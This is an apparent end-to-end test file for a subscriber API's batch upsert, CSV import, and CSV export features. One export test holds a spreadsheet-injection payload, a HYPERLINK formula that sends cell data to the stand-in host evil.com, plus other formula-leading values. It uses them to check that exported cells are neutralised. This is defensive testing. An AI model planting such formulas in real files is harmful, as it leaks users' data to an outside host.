import request from 'supertest';
import { parse } from 'csv-parse/sync';

const readCsv = (text: string): string[][] => parse(text, { columns: false });
import { TestApi, TestEnv } from '../support/test-env';
import { Tenant } from '../support/factories';
import { waitFor } from '../support/wait-for';

/**
 * Data in bulk over HTTP: the batch upsert, a CSV import with a column mapping and bad rows,
 * its row errors as CSV, and an export read back by an import without a change. The large
 * import under a worker crash is bulk-import-crash.e2e-spec.ts.
 */
describe('data in bulk', () => {
  let env: TestEnv;
  let api: TestApi;
  let tenant: Tenant;

  beforeAll(async () => {
    env = await TestEnv.create({ RATE_LIMIT: '10000' });
    api = await TestApi.start(env);
    tenant = await api.tenant('Bulk');
  });
  afterAll(async () => {
    await api?.close();
    await env?.dispose();
  });

  const post = (path: string) => request(api.server).post(path).set('Authorization', tenant.auth);
  const get = (path: string) => request(api.server).get(path).set('Authorization', tenant.auth);

  async function importDone(id: string): Promise<Record<string, unknown>> {
    return waitFor(
      async () => {
        const { body } = (await get(`/v1/imports/${id}`).expect(200)) as {
          body: Record<string, unknown>;
        };
        return body.status === 'done' || body.status === 'failed' ? body : undefined;
      },
      { timeoutMs: 60_000, message: `import ${id} never finished` },
    );
  }

  describe('POST /v1/subscribers/batch', () => {
    it('creates, updates and refuses item by item, in order', async () => {
      await post('/v1/subscribers')
        .send({ email: 'old@batch.test', first_name: 'Old' })
        .expect(201);
      await post('/v1/subscribers').send({ email: 'gone@batch.test' }).expect(201);
      await post('/v1/erasures').send({ email: 'gone@batch.test' }).expect(200);

      const { body } = await post('/v1/subscribers/batch')
        .send({
          subscribers: [
            { email: 'new@batch.test', first_name: 'New', tags: ['a'] },
            { email: 'OLD@batch.test', last_name: 'Updated' },
            { email: 'not an email' },
            { email: 'gone@batch.test', first_name: 'Back?' },
            { first_name: 'No email' },
            'a string',
            { email: 'new@batch.test', city: 'Paris' },
          ],
        })
        .expect(200);

      const results = body.results as {
        index: number;
        status: string;
        id: string | null;
        errors: { field: string; code: string }[] | null;
      }[];
      expect(results.map((r) => [r.index, r.status])).toEqual([
        [0, 'created'],
        [1, 'updated'],
        [2, 'failed'],
        [3, 'failed'],
        [4, 'failed'],
        [5, 'failed'],
        [6, 'updated'],
      ]);
      expect(results[2].errors).toEqual([
        expect.objectContaining({ field: 'email', code: 'invalid_format' }),
      ]);
      expect(results[3].errors).toEqual([
        expect.objectContaining({ field: 'email', code: 'erased' }),
      ]);
      expect(results[4].errors).toEqual([
        expect.objectContaining({ field: 'email', code: 'missing' }),
      ]);
      expect(results[6].id).toBe(results[0].id);

      const created = await get(`/v1/subscribers/${results[0].id}`).expect(200);
      expect(created.body).toMatchObject({ first_name: 'New', city: 'Paris', tags: ['a'] });
      const updated = await get(`/v1/subscribers/${results[1].id}`).expect(200);
      expect(updated.body).toMatchObject({ first_name: 'Old', last_name: 'Updated' });
      const refusals = await env.sql(
        `SELECT metadata FROM audit_events WHERE action = 'erased_identity.write_refused'`,
      );
      expect(refusals).toEqual([{ metadata: { endpoint: 'POST /v1/subscribers/batch' } }]);
    });

    it('refuses a batch that is not one: 400 without the list, 422 past 1,000 items', async () => {
      await post('/v1/subscribers/batch').send({}).expect(400);
      const over = await post('/v1/subscribers/batch')
        .send({ subscribers: Array.from({ length: 1001 }, (_, i) => ({ email: `x${i}@b.test` })) })
        .expect(422);
      expect(over.body.error.details[0]).toMatchObject({ field: 'subscribers', code: 'too_long' });
      await post('/v1/subscribers/batch').send({ subscribers: [] }).expect(422);
    });
  });

  describe('POST /v1/imports', () => {
    it('imports a mapped CSV, reports bad rows, skips the erased and leaves blank cells alone', async () => {
      await post('/v1/subscribers')
        .send({ email: 'kept@import.test', city: 'Lyon', custom_fields: { plan: 'pro' } })
        .expect(201);
      await post('/v1/subscribers').send({ email: 'erased@import.test' }).expect(201);
      await post('/v1/erasures').send({ email: 'erased@import.test' }).expect(200);
      const csv = [
        'E-mail Address;Given Name;Town;Plan;Notes;tags',
        'ann@import.test;Ann;Oslo;gold;skip me;"a, b"',
        'not-an-email;Bob;;;;',
        'kept@import.test;Kept;;platinum;;',
        'erased@import.test;Eve;;;;',
        'ann@import.test;Annie;;;;',
        'toolong@import.test;' + 'x'.repeat(300) + ';;;;',
        'extra@import.test;Extra;;;;;one cell too many',
      ].join('\r\n');
      const accepted = await post('/v1/imports')
        .field('columns', JSON.stringify({ Town: 'city', Notes: null }))
        .attach('file', Buffer.from(csv), { filename: 'list.csv', contentType: 'text/csv' })
        .expect(202);
      expect(accepted.body).toEqual({ id: expect.any(String), status: 'queued' });

      const done = await importDone(accepted.body.id);
      expect(done).toMatchObject({
        status: 'done',
        mode: 'upsert',
        rows_total: 7,
        rows_processed: 7,
        created: 1,
        updated: 2,
        unchanged: 0,
        skipped_erased: 1,
        failed: 3,
      });
      expect(done.columns).toEqual([
        { header: 'E-mail Address', field: 'email' },
        { header: 'Given Name', field: 'first_name' },
        { header: 'Town', field: 'city' },
        { header: 'Plan', field: 'custom_fields.Plan' },
        { header: 'Notes', field: null },
        { header: 'tags', field: 'tags' },
      ]);
      expect(done.errors).toEqual([
        { row: 2, field: 'email', message: expect.any(String) },
        { row: 6, field: 'first_name', message: expect.any(String) },
        { row: 7, field: 'row', message: 'This row has 7 cells; the header has 6.' },
      ]);
      // Row errors never quote the row's data.
      expect(JSON.stringify(done.errors)).not.toContain('not-an-email');

      const rows = await env.sql<{
        email: string;
        first_name: string;
        city: string | null;
        tags: string[];
        custom_fields: object;
      }>(
        `SELECT email, first_name, city, tags, custom_fields FROM subscribers
          WHERE email LIKE '%@import.test' ORDER BY email`,
      );
      expect(rows).toEqual([
        {
          email: 'ann@import.test',
          first_name: 'Annie',
          city: 'Oslo',
          tags: ['a', 'b'],
          custom_fields: { Plan: 'gold' },
        },
        {
          email: 'kept@import.test',
          first_name: 'Kept',
          city: 'Lyon',
          tags: [],
          custom_fields: { plan: 'pro', Plan: 'platinum' },
        },
      ]);

      const errors = await get(`/v1/imports/${accepted.body.id}/errors`).expect(200);
      expect(errors.headers['content-type']).toMatch(/^text\/csv/);
      const lines = readCsv(errors.text);
      expect(lines[0]).toEqual(['row', 'field', 'message']);
      expect(lines.slice(1).map(([row, field]) => [row, field])).toEqual([
        ['2', 'email'],
        ['6', 'first_name'],
        ['7', 'row'],
      ]);
      const stored = await env.sql(`SELECT count(*)::int AS n FROM stored_files`);
      expect(stored).toEqual([{ n: 0 }]); // the upload is deleted once imported
    });

    it('refuses a row over 64 KiB as one row error and imports every row after it', async () => {
      // Rows of 70 KiB and 200 KiB (past several 48 KiB chunks of the stored file), one of
      // them a quoted cell with line breaks inside, each followed by ordinary rows.
      const lines = ['email,first_name,notes'];
      const oversized = new Map<number, string>([
        [3, `big@long.test,Big,${'n'.repeat(70 * 1024)}`],
        [9, `quoted@long.test,Quoted,"${'line\n'.repeat(40 * 1024)}"`],
        [10, `wide@long.test,Wide,${'w'.repeat(200 * 1024)}`],
      ]);
      for (let row = 1; row <= 40; row++) {
        lines.push(oversized.get(row) ?? `r${row}@long.test,Reader ${row},`);
      }
      const accepted = await post('/v1/imports')
        .attach('file', Buffer.from(`${lines.join('\r\n')}\r\n`), {
          filename: 'long.csv',
          contentType: 'text/csv',
        })
        .expect(202);
      const done = await importDone(accepted.body.id);
      expect(done).toMatchObject({
        status: 'done',
        rows_total: 40,
        rows_processed: 40,
        created: 37,
        failed: 3,
      });
      const tooLong = 'This row is longer than 64 KiB.';
      expect(done.errors).toEqual([
        { row: 3, field: 'row', message: tooLong },
        { row: 9, field: 'row', message: tooLong },
        { row: 10, field: 'row', message: tooLong },
      ]);
      const rows = await env.sql<{ email: string; first_name: string }>(
        `SELECT email, first_name FROM subscribers WHERE email LIKE '%@long.test'`,
      );
      const expected = lines
        .slice(1)
        .map((line, index) => [line, index + 1] as const)
        .filter(([, row]) => !oversized.has(row))
        .map(([, row]) => ({ email: `r${row}@long.test`, first_name: `Reader ${row}` }));
      const byEmail = (a: { email: string }, b: { email: string }) =>
        a.email.localeCompare(b.email);
      expect(rows.sort(byEmail)).toEqual(expected.sort(byEmail));
    });

    it('leaves existing subscribers alone in create mode', async () => {
      await post('/v1/subscribers')
        .send({ email: 'same@create.test', first_name: 'First' })
        .expect(201);
      const accepted = await post('/v1/imports')
        .field('mode', 'create')
        .attach(
          'file',
          Buffer.from('email,first_name\nsame@create.test,Second\nfresh@create.test,Fresh\n'),
          'a.csv',
        )
        .expect(202);
      const done = await importDone(accepted.body.id);
      expect(done).toMatchObject({ created: 1, updated: 0, unchanged: 1, failed: 0 });
      const [row] = await env.sql(
        `SELECT first_name FROM subscribers WHERE email = 'same@create.test'`,
      );
      expect(row).toEqual({ first_name: 'First' });
    });

    it('refuses a row whose custom fields pass the limits once merged with the subscriber’s', async () => {
      const existing = Object.fromEntries(Array.from({ length: 95 }, (_, i) => [`old${i}`, i]));
      await post('/v1/subscribers')
        .send({ email: 'full@merge.test', custom_fields: existing })
        .expect(201);
      await post('/v1/subscribers')
        .send({ email: 'heavy@merge.test', custom_fields: { notes: 'n'.repeat(15_000) } })
        .expect(201);
      const header = ['email', ...Array.from({ length: 10 }, (_, i) => `new${i}`), 'bio'];
      const cells = (email: string, bio: string) =>
        [email, ...Array.from({ length: 10 }, (_, i) => String(i)), bio].join(',');
      const csv = [
        header.join(','),
        cells('full@merge.test', ''), // 95 + 10 keys
        cells('fresh@merge.test', ''), // 10 keys: fine
        `heavy@merge.test,${','.repeat(9)},${'b'.repeat(2_000)}`, // 15 + 2 KB > 16 KiB
        'fresh@merge.test,,,,,,,,,,,more', // 11 keys on a subscriber this file created
      ].join('\n');
      const accepted = await post('/v1/imports')
        .attach('file', Buffer.from(csv), { filename: 'merge.csv', contentType: 'text/csv' })
        .expect(202);
      const done = await importDone(accepted.body.id);
      expect(done).toMatchObject({ status: 'done', created: 1, updated: 1, failed: 2 });
      expect(done.errors).toEqual([
        { row: 1, field: 'custom_fields', message: expect.stringContaining('at most 100') },
        { row: 3, field: 'custom_fields', message: expect.stringContaining('at most 16 KiB') },
      ]);
      const rows = await env.sql<{ email: string; keys: number }>(
        `SELECT email, (SELECT count(*)::int FROM jsonb_object_keys(custom_fields)) AS keys
           FROM subscribers WHERE email LIKE '%@merge.test' ORDER BY email`,
      );
      expect(rows).toEqual([
        { email: 'fresh@merge.test', keys: 11 },
        { email: 'full@merge.test', keys: 95 },
        { email: 'heavy@merge.test', keys: 1 },
      ]);
    });

    it('refuses what cannot be imported before accepting it', async () => {
      await post('/v1/imports').send({ file: 'email\na@b.test' }).expect(400);
      await post('/v1/imports').field('mode', 'upsert').expect(400);
      const mode = await post('/v1/imports')
        .field('mode', 'merge')
        .attach('file', Buffer.from('email\na@b.test\n'), 'a.csv')
        .expect(422);
      expect(mode.body.error.details).toEqual([expect.objectContaining({ field: 'mode' })]);
      const noEmail = await post('/v1/imports')
        .attach('file', Buffer.from('name,city\nAnn,Oslo\n'), 'a.csv')
        .expect(422);
      expect(noEmail.body.error.details).toEqual([
        expect.objectContaining({
          field: 'file',
          code: 'invalid_csv',
          message: expect.stringContaining('email'),
        }),
      ]);
      const badTarget = await post('/v1/imports')
        .field('columns', JSON.stringify({ name: 'nickname' }))
        .attach('file', Buffer.from('email,name\na@b.test,Ann\n'), 'a.csv')
        .expect(422);
      expect(badTarget.body.error.details).toEqual([
        expect.objectContaining({ field: 'columns.name' }),
      ]);
      const stored = await env.sql(`SELECT count(*)::int AS n FROM stored_files`);
      expect(stored).toEqual([{ n: 0 }]);
      await get('/v1/imports/00000000-0000-7000-8000-000000000000').expect(404);
    });
  });

  describe('POST /v1/exports', () => {
    it('exports CSV that an import reads back unchanged', async () => {
      await post('/v1/subscribers/batch')
        .send({
          subscribers: [
            {
              email: 'round@trip.test',
              first_name: 'Round',
              birthdate: '1990-05-01',
              tags: ['x, y', 'z'],
              interests: ['books'],
              social_media: [{ platform: 'mastodon', profile_id: '@r' }],
              custom_fields: {
                score: 12,
                vip: true,
                note: '042',
                nested: { a: [1] },
                empty: '',
                city: 'custom city',
              },
            },
            { email: 'plain@trip.test' },
          ],
        })
        .expect(200);
      const before = await env.sql(
        `SELECT * FROM subscribers WHERE email LIKE '%@trip.test' ORDER BY email`,
      );

      const accepted = await post('/v1/exports').send({}).expect(202);
      const done = await waitFor(
        async () => {
          const { body } = (await get(`/v1/exports/${accepted.body.id}`).expect(200)) as {
            body: { status: string; rows: number };
          };
          return body.status === 'done' ? body : undefined;
        },
        { timeoutMs: 30_000 },
      );
      const total = await env.sql<{ n: number }>(`SELECT count(*)::int AS n FROM subscribers`);
      expect(done.rows).toBe(total[0].n);
      const download = await get(`/v1/exports/${accepted.body.id}/download`).expect(200);
      expect(download.headers['content-type']).toMatch(/^text\/csv/);
      const [header] = readCsv(download.text);
      expect(header).toEqual(expect.arrayContaining(['email', 'score', 'custom_fields.city']));

      // Change what was exported, then import the export: everything comes back (a blank
      // cell changes nothing, so only fields that had values are changed here).
      await env.sql(
        `UPDATE subscribers SET first_name = 'Changed', tags = '{}', custom_fields = '{}' WHERE email = 'round@trip.test'`,
      );
      const reimport = await post('/v1/imports')
        .attach('file', Buffer.from(download.text), 'export.csv')
        .expect(202);
      const reimported = await importDone(reimport.body.id);
      expect(reimported).toMatchObject({ status: 'done', failed: 0, created: 0 });
      const after = await env.sql(
        `SELECT * FROM subscribers WHERE email LIKE '%@trip.test' ORDER BY email`,
      );
      const profile = (row: Record<string, unknown>) => ({ ...row, updated_at: undefined });
      expect(after.map(profile)).toEqual(before.map(profile));
    });

    it('neutralises cells a spreadsheet would run as formulas, and reads them back unchanged', async () => {
      const formula = '=HYPERLINK("https://evil.example/?"&A1,"Click")';
      await post('/v1/subscribers/batch')
        .send({
          subscribers: [
            {
              email: 'formula@cells.test',
              first_name: formula,
              last_name: '+SUM(1)',
              city: '-2+3',
              address1: '@A1',
              phone: '+1 555 0100',
              tags: ['=tag'],
              custom_fields: {
                tabbed: '\tcell',
                returned: '\rcell',
                negative: -5,
                quoted: "'=already quoted",
                apostrophe: "'plain",
                '=key': 'value',
              },
            },
          ],
        })
        .expect(200);
      const before = await env.sql(`SELECT * FROM subscribers WHERE email = 'formula@cells.test'`);
      const accepted = await post('/v1/exports').send({}).expect(202);
      await waitFor(
        async () =>
          ((await get(`/v1/exports/${accepted.body.id}`).expect(200)).body as { status: string })
            .status === 'done',
        { timeoutMs: 30_000 },
      );
      const download = await get(`/v1/exports/${accepted.body.id}/download`).expect(200);
      const [header, ...rows] = readCsv(download.text);
      const row = rows.find((cells) => cells.includes('formula@cells.test'))!;
      const cell = (column: string) => row[header.indexOf(column)];
      expect(cell('first_name')).toBe(`'${formula}`);
      expect(cell('last_name')).toBe("'+SUM(1)");
      expect(cell('city')).toBe("'-2+3");
      expect(cell('address1')).toBe("'@A1");
      expect(cell('phone')).toBe("'+1 555 0100");
      expect(cell('tags')).toBe("'=tag");
      expect(cell('tabbed')).toBe("'\tcell");
      expect(cell('returned')).toBe("'\rcell");
      expect(cell('negative')).toBe("'-5");
      expect(cell('apostrophe')).toBe("'plain");
      expect(header).toContain("'=key");
      // Nothing in the whole file starts a formula.
      for (const cells of [header, ...rows]) {
        for (const text of cells) expect(text).not.toMatch(/^[=+\-@\t\r]/);
      }

      // The import undoes exactly what the export added.
      await env.sql(
        `UPDATE subscribers SET first_name = 'Changed', custom_fields = '{}' WHERE email = 'formula@cells.test'`,
      );
      const reimport = await post('/v1/imports')
        .attach('file', Buffer.from(download.text), 'export.csv')
        .expect(202);
      expect(await importDone(reimport.body.id)).toMatchObject({ status: 'done', failed: 0 });
      const after = await env.sql(`SELECT * FROM subscribers WHERE email = 'formula@cells.test'`);
      const profile = (r: Record<string, unknown>) => ({ ...r, updated_at: undefined });
      expect(after.map(profile)).toEqual(before.map(profile));
    });

    it('answers 409 for a download that is not ready and 422 for an unknown segment', async () => {
      const unknown = await post('/v1/exports')
        .send({ segment_id: '00000000-0000-7000-8000-000000000000' })
        .expect(422);
      expect(unknown.body.error.details).toEqual([
        expect.objectContaining({ field: 'segment_id' }),
      ]);
      await get('/v1/exports/00000000-0000-7000-8000-000000000000/download').expect(404);
    });

    it('expires finished exports when someone is erased: the file may hold them', async () => {
      await post('/v1/subscribers').send({ email: 'leaving@export.test' }).expect(201);
      const accepted = await post('/v1/exports').send({}).expect(202);
      const id = accepted.body.id as string;
      await waitFor(
        async () => {
          const { body } = (await get(`/v1/exports/${id}`).expect(200)) as {
            body: { status: string };
          };
          return body.status === 'done';
        },
        { timeoutMs: 30_000 },
      );
      await get(`/v1/exports/${id}/download`).expect(200);
      await post('/v1/erasures').send({ email: 'leaving@export.test' }).expect(200);
      const after = await get(`/v1/exports/${id}`).expect(200);
      expect(after.body).toMatchObject({ status: 'expired' });
      await get(`/v1/exports/${id}/download`).expect(409);
      const files = await env.sql(
        `SELECT count(*)::int AS n FROM stored_files WHERE purpose = 'export'`,
      );
      expect(files).toEqual([{ n: 0 }]);
    });
  });
});
